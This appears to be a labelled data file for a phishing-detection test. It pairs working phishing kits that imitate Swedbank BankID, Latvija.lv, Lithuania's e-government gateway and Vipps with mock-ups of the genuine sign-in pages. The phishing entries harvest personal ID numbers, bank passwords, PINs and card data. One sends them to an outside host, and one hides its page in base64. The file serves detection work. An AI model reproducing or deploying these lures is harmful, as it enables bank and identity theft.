import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardCss, baseCss, bankIdMark, spinnerCss, wordmark, b64, cookieBanner, gtm } from '../parts/yb-kit.js';
import { jsRoute, jsonRoute, pngRoute } from '../parts/e-bin.js';

// National e-ID and bank sign-ins: kits copied from Swedbank, Danske/MitID, DNB, SEB, OP, the Latvian and
// Lithuanian state portals, and the real sign-in pages of the same services on their own hostnames.

export const entries: Entry[] = [
  {
  id: 'yb-se-swedbank-bankid-relay',
  label: 'phishing',
  kind: 'bankid-relay-kit',
  url: 'https://swedbank-se.kundsakerhet-id.com/privat/logga-in/',
  body: doc({
    lang: 'sv',
    title: 'Logga in | Swedbank',
    head: `<link rel="icon" href="/favicon.png">`,
    css: `${baseCss}
body{background:#fdf6ee}
header{background:#fff;border-bottom:4px solid #ee7023;padding:14px 28px;display:flex;align-items:center;gap:14px}
header b{font-size:26px;color:#512b2b;letter-spacing:-.5px}
.box{max-width:520px;margin:40px auto;background:#fff;border-radius:8px;padding:34px 38px;box-shadow:0 1px 4px rgba(81,43,43,.2)}
h1{color:#512b2b;font-size:28px;margin:0 0 6px}
.tabs{display:flex;border-bottom:1px solid #e0d6cc;margin:20px 0}
.tabs span{padding:10px 16px;font-weight:600;color:#8a7b70}.tabs span.on{color:#512b2b;border-bottom:3px solid #ee7023}
label{font-weight:600;display:block;margin:16px 0 6px;color:#512b2b}
input{width:100%;padding:12px;border:1px solid #b8a99c;border-radius:4px;font-size:17px}
.btn{margin-top:22px;width:100%;padding:14px;border:0;border-radius:4px;background:#ee7023;color:#fff;font-weight:700;font-size:17px}
#step2{display:none;text-align:center}#step2 canvas{border:8px solid #fff;box-shadow:0 0 0 1px #ddd;margin:18px auto;display:block}
.hint{font-size:14px;color:#6b5d52}
${spinnerCss}`,
    body: `<header><svg width="40" height="40" viewBox="0 0 40 40"><circle cx="20" cy="20" r="19" fill="#ee7023"/><path d="M10 26c6-10 14-12 20-12" stroke="#fff" stroke-width="3" fill="none"/></svg><b>Swedbank</b></header>
<div class="box">
 <div id="step1">
  <h1>Logga in</h1>
  <p class="hint">Av säkerhetsskäl behöver vi bekräfta din identitet efter den senaste uppdateringen av Mobilt BankID.</p>
  <div class="tabs"><span class="on">Mobilt BankID</span><span>BankID på fil</span><span>Säkerhetsdosa</span></div>
  <form id="f" autocomplete="off">
   <label for="pnr">Personnummer (ÅÅÅÅMMDDNNNN)</label>
   <input id="pnr" name="pnr" inputmode="numeric" maxlength="13" placeholder="ÅÅÅÅMMDD-NNNN" required>
   <button class="btn" type="submit">Logga in</button>
  </form>
 </div>
 <div id="step2">
  ${bankIdMark()}
  <h1>Starta BankID-appen</h1>
  <p class="hint">Öppna BankID-appen på din mobil och skanna QR-koden.</p>
  <canvas id="qr" width="200" height="200"></canvas>
  <div class="spin"></div>
  <p class="hint" id="st">Väntar på identifiering…</p>
 </div>
</div>
<script>
var ref=null,tick=0;
function draw(seed){var c=document.getElementById('qr').getContext('2d');c.fillStyle='#fff';c.fillRect(0,0,200,200);c.fillStyle='#000';
 var x=seed;for(var i=0;i<25;i++)for(var j=0;j<25;j++){x=(x*1103515245+12345)&0x7fffffff;if((i<7&&j<7)||(i<7&&j>17)||(i>17&&j<7)){if(i%6==0||j%6==0||(i%6>1&&i%6<5&&j%6>1&&j%6<5)||(j>17&&((j-18)%6==0||(j-18)%6>1&&(j-18)%6<5))||(i>17&&((i-18)%6==0||(i-18)%6>1&&(i-18)%6<5)))c.fillRect(j*8,i*8,8,8)}else if(x%3==0)c.fillRect(j*8,i*8,8,8)}}
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();
 var p=document.getElementById('pnr').value.replace(/[^0-9]/g,'');
 fetch('/api/auth/start',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({pnr:p,ua:navigator.userAgent})}).then(function(r){return r.json()}).then(function(j){ref=j.orderRef;document.getElementById('step1').style.display='none';document.getElementById('step2').style.display='block';poll()});
});
function poll(){draw(Date.now()&0xffff);tick++;
 fetch('/api/auth/collect?orderRef='+encodeURIComponent(ref)).then(function(r){return r.json()}).then(function(j){
  if(j.status==='complete'){location.href=j.next}else{document.getElementById('st').textContent=j.hintText||'Väntar…';setTimeout(poll,1500)}}).catch(function(){setTimeout(poll,3000)})}
</script>`,
  }),
  routes: {
    'swedbank-se.kundsakerhet-id.com/favicon.png': pngRoute(238, 112, 35),
    'swedbank-se.kundsakerhet-id.com/api/auth/start': jsonRoute({ orderRef: '4f1c2a9e-73b0-4e8e-9d41-0c5b1d7d2e11', autoStartToken: 'c1f7b6d2-2a58-44e8-bf1a-5b3ce2d91a70' }),
    'swedbank-se.kundsakerhet-id.com/api/auth/collect': jsonRoute({ status: 'pending', hintText: 'Väntar på att du ska starta BankID-appen' }),
    'swedbank-se.kundsakerhet-id.com/privat/verifiera-kort': htmlRoute(
      doc({
        lang: 'sv',
        title: 'Bekräfta kort | Swedbank',
        css: `${baseCss}body{background:#fdf6ee}.box{max-width:520px;margin:40px auto;background:#fff;border-radius:8px;padding:34px 38px}label{display:block;font-weight:600;margin:14px 0 6px}input{width:100%;padding:11px;border:1px solid #b8a99c;border-radius:4px}.btn{margin-top:20px;width:100%;padding:14px;border:0;border-radius:4px;background:#ee7023;color:#fff;font-weight:700}`,
        body: `<div class="box"><h1>Bekräfta ditt bankkort</h1><p>Ditt kort har tillfälligt spärrats för internetköp. Bekräfta kortuppgifterna för att häva spärren.</p>
<form method="post" action="/privat/verifiera-kort/spara.php"><label>Kortnummer</label><input name="kort" inputmode="numeric" maxlength="19"><label>Giltigt till (MM/ÅÅ)</label><input name="giltig" maxlength="5"><label>CVC</label><input name="cvc" maxlength="3"><label>Telefonnummer</label><input name="tel" type="tel"><button class="btn">Bekräfta</button></form></div>`,
      }),
    ),
  },
},
  {
  id: 'yb-lv-latvija-portal-bank-chooser',
  label: 'phishing',
  kind: 'state-portal-kit',
  url: 'https://latvija-lv.pakalpojumi-autorizacija.com/pieslegties',
  body: doc({
    lang: 'lv',
    title: 'Latvija.lv – Autentifikācija',
    css: `${baseCss}
body{background:#f4f4f2}
.top{background:#9e3039;color:#fff;padding:16px 32px;font:700 22px Arial}
.top small{font-weight:400;font-size:14px;opacity:.85;display:block}
.w{max-width:760px;margin:36px auto;background:#fff;padding:32px;border:1px solid #ddd}
.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:14px;margin-top:18px}
.grid a{display:flex;align-items:center;justify-content:center;height:74px;border:1px solid #ccc;border-radius:4px;text-decoration:none;font-weight:700;color:#333;background:#fafafa}
.grid a:hover{border-color:#9e3039}
#m{position:fixed;inset:0;background:rgba(0,0,0,.45);display:none;align-items:center;justify-content:center}
#m .d{background:#fff;width:400px;padding:26px;border-radius:6px}
#m label{display:block;margin:12px 0 4px;font-size:14px}#m input{width:100%;padding:10px;border:1px solid #aaa}
#m button{margin-top:16px;width:100%;padding:12px;background:#9e3039;color:#fff;border:0;font-weight:700}`,
    body: `<div class="top">LATVIJA.LV<small>Valsts pārvaldes pakalpojumu portāls</small></div>
<div class="w">
<h2>Pieslēgties portālam</h2>
<p>Lai saņemtu <b>vienreizējo energoresursu kompensāciju (87,40 EUR)</b>, lūdzu, autentificējieties ar internetbanku vai eParaksts mobile.</p>
<div class="grid">
 <a href="#" data-b="Swedbank">Swedbank</a><a href="#" data-b="SEB">SEB banka</a><a href="#" data-b="Citadele">Citadele</a>
 <a href="#" data-b="Luminor">Luminor</a><a href="#" data-b="Rietumu">Rietumu</a><a href="#" data-b="eParaksts">eParaksts mobile</a>
</div>
<p style="font-size:13px;color:#666;margin-top:26px">Pakalpojumu nodrošina Valsts digitālās attīstības aģentūra.</p>
</div>
<div id="m"><div class="d"><h3 id="bn"></h3>
<form id="lf"><label>Lietotāja ID</label><input name="uid" required><label>Parole</label><input name="pass" type="password" required><label>Personas kods</label><input name="pk" placeholder="000000-00000" required><label>Smart-ID PIN1</label><input name="pin1" type="password" inputmode="numeric"><button>Apstiprināt</button></form></div></div>
<script>
var bank='';
[].forEach.call(document.querySelectorAll('.grid a'),function(a){a.onclick=function(e){e.preventDefault();bank=a.dataset.b;document.getElementById('bn').textContent=bank+' – autentifikācija';document.getElementById('m').style.display='flex'}});
document.getElementById('lf').onsubmit=function(e){e.preventDefault();var d=new FormData(this);d.append('bank',bank);
 navigator.sendBeacon('https://lv-kompensacija.herokuapp.com/api/collect',d);
 this.innerHTML='<p>Paldies! Kompensācija tiks ieskaitīta 3 darba dienu laikā.</p>';};
</script>`,
  }),
},
  {
  id: 'yb-lt-evaldzia-docwrite',
  label: 'phishing',
  kind: 'state-portal-kit',
  url: 'https://epaslaugos-gov.lt-vartai.info/portal/login',
  body: doc({
    lang: 'lt',
    title: 'Elektroninės valdžios vartai',
    body: `<noscript>Įjunkite JavaScript.</noscript>
<script>document.write(decodeURIComponent(escape(atob('${b64(`<style>body{margin:0;font-family:Arial,sans-serif;background:#f1f3f5}.h{background:#fdb913;padding:14px 30px;font-weight:700;font-size:20px;color:#1d1d1b}.h span{color:#006a44}.c{max-width:560px;margin:40px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 3px #0002}.b{display:flex;flex-wrap:wrap;gap:10px}.b label{flex:1 1 45%;border:1px solid #ccd;padding:14px;border-radius:4px;cursor:pointer}input[type=text],input[type=password]{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #999;box-sizing:border-box}button{background:#006a44;color:#fff;border:0;padding:12px 26px;font-weight:700}</style>
<div class="h">Elektroninės valdžios <span>vartai</span></div>
<div class="c"><h2>Prisijungimas per elektroninę bankininkystę</h2>
<p>Valstybinė mokesčių inspekcija: Jums priklauso <b>142,60 €</b> gyventojų pajamų mokesčio permoka. Prisijunkite, kad patvirtintumėte sąskaitą.</p>
<form method="post" action="https://epaslaugos-gov.lt-vartai.info/portal/auth.php">
<div class="b"><label><input type="radio" name="bankas" value="swedbank" checked> Swedbank</label><label><input type="radio" name="bankas" value="seb"> SEB</label><label><input type="radio" name="bankas" value="luminor"> Luminor</label><label><input type="radio" name="bankas" value="siauliu"> Šiaulių bankas</label></div>
<p>Naudotojo ID</p><input type="text" name="uid" required>
<p>Slaptažodis</p><input type="password" name="slapt" required>
<p>Asmens kodas</p><input type="text" name="ak" maxlength="11" required>
<p>Kodų kortelės kodas Nr. <b>14</b></p><input type="text" name="kodas" maxlength="4">
<button type="submit">Prisijungti</button></form></div>`)}'))));</script>`,
  }),
},
  {
  id: 'yb-no-vipps-refusjon-pin',
  label: 'phishing',
  kind: 'payment-app-kit',
  url: 'https://vipps-refusjon.kundeservice-no.com/motta',
  body: doc({
    lang: 'no',
    title: 'Vipps – Motta refusjon',
    css: `${baseCss}
body{background:#ff5b24;min-height:100vh;display:flex;align-items:center;justify-content:center}
.p{background:#fff;border-radius:18px;width:360px;padding:30px 26px;text-align:center}
.logo{font:800 34px Arial;color:#ff5b24}
.amt{font-size:40px;font-weight:800;margin:8px 0}
input{width:100%;padding:14px;border:2px solid #ddd;border-radius:10px;font-size:18px;margin-top:12px;text-align:center}
button{margin-top:18px;width:100%;padding:15px;border:0;border-radius:30px;background:#ff5b24;color:#fff;font-size:17px;font-weight:700}
.pin{letter-spacing:14px}`,
    body: `<div class="p">
<div class="logo">vipps</div>
<p>Du har mottatt en refusjon fra <b>Elvia AS</b></p>
<div class="amt">1 248,00 kr</div>
<p style="font-size:14px;color:#555">Logg inn for å motta beløpet til din konto.</p>
<form action="/motta/steg2.php" method="post">
<input name="tlf" type="tel" placeholder="Mobilnummer" maxlength="8" required>
<input name="pin" class="pin" type="password" inputmode="numeric" placeholder="PIN" maxlength="5" required>
<input name="fnr" inputmode="numeric" placeholder="Fødselsnummer (11 siffer)" maxlength="11" required>
<button>Motta penger</button>
</form>
</div>`,
  }),
},
  {
  id: 'yb-se-swedbank-own-login',
  label: 'clean',
  kind: 'bank-login-own-domain',
  url: 'https://online.swedbank.se/app/ib/logga-in',
  body: doc({
    lang: 'sv',
    title: 'Logga in – Privat | Swedbank och sparbankerna',
    head: `<link rel="preload" href="/app/ib/assets/main.js" as="script">${gtm('GTM-W7Q2HZ')}`,
    css: `${baseCss}
body{background:#fdf6ee;color:#512b2b}
header{background:#fff;padding:0 32px;height:72px;display:flex;align-items:center;justify-content:space-between;box-shadow:0 1px 0 #ead9c9}
header b{font-size:24px}
header nav a{margin-left:20px;font-size:15px;text-decoration:none}
main{max-width:980px;margin:0 auto;padding:40px 20px;display:grid;grid-template-columns:1fr 1fr;gap:40px}
.panel{background:#fff;border-radius:8px;padding:30px;box-shadow:0 1px 4px rgba(81,43,43,.18)}
h1{margin:0 0 18px;font-size:30px}
.opt{display:flex;align-items:center;gap:14px;padding:16px;border:1px solid #e1d3c6;border-radius:6px;margin-bottom:12px;text-decoration:none;font-weight:600}
.opt:hover{border-color:#ee7023}
.opt small{display:block;font-weight:400;color:#7a6659}
.info h2{font-size:20px}.info li{margin-bottom:8px}
@media(max-width:760px){main{grid-template-columns:1fr}}`,
    body: `<header><b>Swedbank</b><nav><a href="https://www.swedbank.se/privat.html">Privat</a><a href="https://www.swedbank.se/foretag.html">Företag</a><a href="https://www.swedbank.se/privat/kundservice.html">Kundservice</a></nav></header>
<main>
<section class="panel">
 <h1>Logga in</h1>
 <a class="opt" href="/app/ib/logga-in/mobilt-bankid" data-method="MBID">${bankIdMark('#512b2b')}<span>Mobilt BankID<small>På annan enhet – skanna QR-kod</small></span></a>
 <a class="opt" href="/app/ib/logga-in/bankid-denna-enhet" data-method="MBID_SAME_DEVICE">${bankIdMark('#512b2b')}<span>BankID på den här enheten<small>Öppnar BankID-appen direkt</small></span></a>
 <a class="opt" href="/app/ib/logga-in/sakerhetsdosa" data-method="TOKEN">▣<span>Säkerhetsdosa<small>Personnummer och engångskod</small></span></a>
 <p style="font-size:14px">Problem att logga in? <a href="https://www.swedbank.se/privat/digitala-tjanster/hjalp-att-logga-in.html">Få hjälp</a></p>
</section>
<section class="info">
 <h2>Skydda dig mot bedrägerier</h2>
 <ul>
  <li>Vi ringer aldrig och ber dig legitimera dig med BankID.</li>
  <li>Skanna aldrig en QR-kod som någon annan har skickat till dig.</li>
  <li>Logga bara in via swedbank.se eller i vår app.</li>
 </ul>
 <p>Har du blivit utsatt? Ring oss direkt på <b>0771-22 11 22</b>, dygnet runt.</p>
</section>
</main>
${cookieBanner('Vi använder kakor för att webbplatsen ska fungera och för att förbättra din upplevelse.', 'Godkänn alla', 'Inställningar')}
<script src="/app/ib/assets/main.js" defer></script>`,
  }),
  routes: {
    'online.swedbank.se/app/ib/assets/main.js': jsRoute(`(function(){"use strict";
var opts=document.querySelectorAll("a.opt");
for(var i=0;i<opts.length;i++){opts[i].addEventListener("click",function(e){
 window.dataLayer&&window.dataLayer.push({event:"login_method",method:this.getAttribute("data-method")});
});}
if(/iPhone|Android/i.test(navigator.userAgent)){var s=document.querySelector('[data-method="MBID_SAME_DEVICE"]');if(s&&s.parentNode)s.parentNode.insertBefore(s,s.parentNode.children[1]);}
})();`),
    'online.swedbank.se/app/ib/logga-in/mobilt-bankid': htmlRoute(
      doc({ lang: 'sv', title: 'Mobilt BankID | Swedbank', css: `${baseCss}${spinnerCss}body{background:#fdf6ee;text-align:center;padding:60px}`, body: `${bankIdMark()}<h1>Starta BankID-appen</h1><p>Skanna QR-koden med BankID-appen på din mobil.</p><div class="spin"></div><p><a href="/app/ib/logga-in">Avbryt</a></p>` }),
    ),
  },
},
  {
  id: 'yb-ee-seb-ipank-own',
  label: 'clean',
  kind: 'bank-login-own-domain',
  url: 'https://e.seb.ee/ip/ipank?act=SMARTIDLOGIN&lang=EST',
  body: doc({
    lang: 'et',
    title: 'SEB internetipank',
    css: `${baseCss}
.hdr{height:70px;border-bottom:1px solid #e5e5e5;display:flex;align-items:center;padding:0 40px;justify-content:space-between}
.hdr b{font:700 34px Arial;color:#60cd18}
.main{max-width:460px;margin:40px auto;padding:0 20px}
.tabs{display:flex;gap:4px;margin:20px 0}
.tabs a{flex:1;text-align:center;padding:10px;border:1px solid #ccc;background:#f7f7f7;text-decoration:none}
.tabs a.on{background:#fff;font-weight:700}
label{display:block;margin:14px 0 5px;font-size:14px}
input{width:100%;padding:11px;border:1px solid #999;border-radius:2px;font-size:16px}
.go{margin-top:20px;padding:13px 30px;background:#41b0ee;border:0;color:#fff;font-weight:700;border-radius:2px}
.code{font-size:44px;font-weight:700;letter-spacing:6px;text-align:center}
#s2{display:none;text-align:center}
.warn{font-size:13px;background:#f3f8fd;padding:12px;border-radius:4px;margin-top:24px}`,
    body: `<div class="hdr"><b>SEB</b><span><a href="?act=SMARTIDLOGIN&amp;lang=ENG">EN</a> · <a href="?act=SMARTIDLOGIN&amp;lang=RUS">RU</a></span></div>
<div class="main">
<h1 style="font-weight:400">Sisene internetipanka</h1>
<div class="tabs"><a class="on" href="?act=SMARTIDLOGIN&amp;lang=EST">Smart-ID</a><a href="?act=MIDLOGIN&amp;lang=EST">Mobiil-ID</a><a href="?act=IDCARDLOGIN&amp;lang=EST">ID-kaart</a></div>
<form id="s1" method="post" action="/ip/ipank">
 <input type="hidden" name="act" value="SMARTIDLOGIN">
 <label for="ik">Isikukood</label><input id="ik" name="isikukood" maxlength="11" inputmode="numeric" autocomplete="username">
 <button class="go">Jätka</button>
</form>
<div id="s2"><p>Kontrollkood</p><div class="code" id="kk"></div><p>Kontrolli, et kood ühtib Smart-ID rakenduses kuvatava koodiga, ja sisesta PIN1 <b>ainult rakenduses</b>.</p></div>
<div class="warn">SEB ei küsi kunagi teie PIN-koode telefoni, e-kirja ega veebilehe kaudu. PIN1 ja PIN2 sisestatakse ainult Smart-ID rakendusse.</div>
</div>
<script>
document.getElementById('s1').addEventListener('submit',function(e){e.preventDefault();var f=this;
 fetch('/ip/ipank/smartid/start',{method:'POST',credentials:'same-origin',body:new FormData(f)}).then(function(r){return r.json()}).then(function(j){f.style.display='none';document.getElementById('s2').style.display='block';document.getElementById('kk').textContent=j.verificationCode;});
});
</script>`,
  }),
  routes: {
    'e.seb.ee/ip/ipank/smartid/start': jsonRoute({ verificationCode: '7315', sessionId: 'b8b9b1c2-1e9e-4bd6-8c53-94c1b7d7a601' }),
  },
},
  {
  id: 'yb-lv-latvija-gov-login-own',
  label: 'clean',
  kind: 'eid-broker-own-domain',
  url: 'https://latvija.gov.lv/Auth/Login',
  body: doc({
    lang: 'lv',
    title: 'Autentifikācija | Latvija.gov.lv',
    css: `${baseCss}
body{background:#f4f4f2}
.top{background:#9e3039;color:#fff;padding:16px 32px;font:700 22px Arial;display:flex;justify-content:space-between}
.top a{color:#fff;font:400 14px Arial}
.w{max-width:760px;margin:36px auto;background:#fff;padding:32px;border:1px solid #ddd}
.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:14px;margin-top:18px}
.grid a{display:flex;align-items:center;justify-content:center;height:74px;border:1px solid #ccc;border-radius:4px;text-decoration:none;font-weight:700;color:#333;background:#fafafa}
.note{font-size:14px;background:#fff8e5;border-left:4px solid #e0a800;padding:10px 14px;margin-top:24px}`,
    body: `<div class="top">LATVIJA.GOV.LV<a href="?lang=en">English</a></div>
<div class="w">
<h1>Autentifikācija</h1>
<p>Izvēlieties veidu, kā apliecināt savu identitāti.</p>
<div class="grid">
 <a href="/Auth/eParakstsMobile">eParaksts mobile</a><a href="/Auth/eID">eID karte</a><a href="/Auth/SmartID">Smart-ID</a>
 <a href="/Auth/Bank/Swedbank">Swedbank</a><a href="/Auth/Bank/SEB">SEB banka</a><a href="/Auth/Bank/Citadele">Citadele</a>
 <a href="/Auth/Bank/Luminor">Luminor</a><a href="/Auth/Bank/Signet">Signet Bank</a><a href="/Auth/Bank/BlueOrange">BluOr Bank</a>
</div>
<div class="note">Valsts iestādes nekad nesūta īsziņas ar saitēm uz kompensāciju vai atmaksu saņemšanu. Pārbaudiet, vai adreses joslā ir <b>latvija.gov.lv</b>.</div>
<p style="font-size:13px;color:#666;margin-top:20px">Valsts digitālās attīstības aģentūra · Tālr. 67 079 000 · <a href="mailto:atbalsts@vdaa.gov.lv">atbalsts@vdaa.gov.lv</a></p>
</div>`,
  }),
},
  {
  id: 'yb-lt-epaslaugos-login-own',
  label: 'clean',
  kind: 'eid-broker-own-domain',
  url: 'https://www.epaslaugos.lt/portal/login',
  body: doc({
    lang: 'lt',
    title: 'Prisijungimas – Elektroninės valdžios vartai',
    css: `${baseCss}
body{background:#f1f3f5}
.h{background:#fdb913;padding:14px 30px;font-weight:700;font-size:20px;display:flex;justify-content:space-between}
.h span{color:#006a44}
.c{max-width:820px;margin:40px auto;background:#fff;padding:30px;border-radius:4px;box-shadow:0 1px 3px #0002}
.grid{display:grid;grid-template-columns:repeat(auto-fill,minmax(170px,1fr));gap:10px}
.grid a{border:1px solid #ccd;padding:18px;border-radius:4px;text-align:center;text-decoration:none;color:#222;font-weight:600}
h3{margin-top:26px}`,
    body: `<div class="h"><div>Elektroninės valdžios <span>vartai</span></div><div style="font-weight:400;font-size:14px">LT | EN</div></div>
<div class="c">
<h2>Prisijungimas</h2>
<p>Prisijungti prie Elektroninės valdžios vartų galite naudodamiesi elektronine bankininkyste, elektroniniu parašu arba asmens tapatybės kortele.</p>
<h3>Elektroninė bankininkystė</h3>
<div class="grid">
<a href="/portal/auth/bank?b=swedbank">Swedbank</a><a href="/portal/auth/bank?b=seb">SEB</a><a href="/portal/auth/bank?b=luminor">Luminor</a><a href="/portal/auth/bank?b=siauliu">Šiaulių bankas</a><a href="/portal/auth/bank?b=medicinos">Medicinos bankas</a><a href="/portal/auth/bank?b=citadele">Citadele</a>
</div>
<h3>Elektroninis parašas</h3>
<div class="grid"><a href="/portal/auth/smartid">Smart-ID</a><a href="/portal/auth/mobile">Mobilus parašas</a><a href="/portal/auth/card">Asmens tapatybės kortelė</a></div>
<p style="margin-top:26px;font-size:14px">Pagalba: <b>+370 5 239 1373</b> · <a href="/portal/help">Dažniausiai užduodami klausimai</a></p>
</div>`,
  }),
},
];
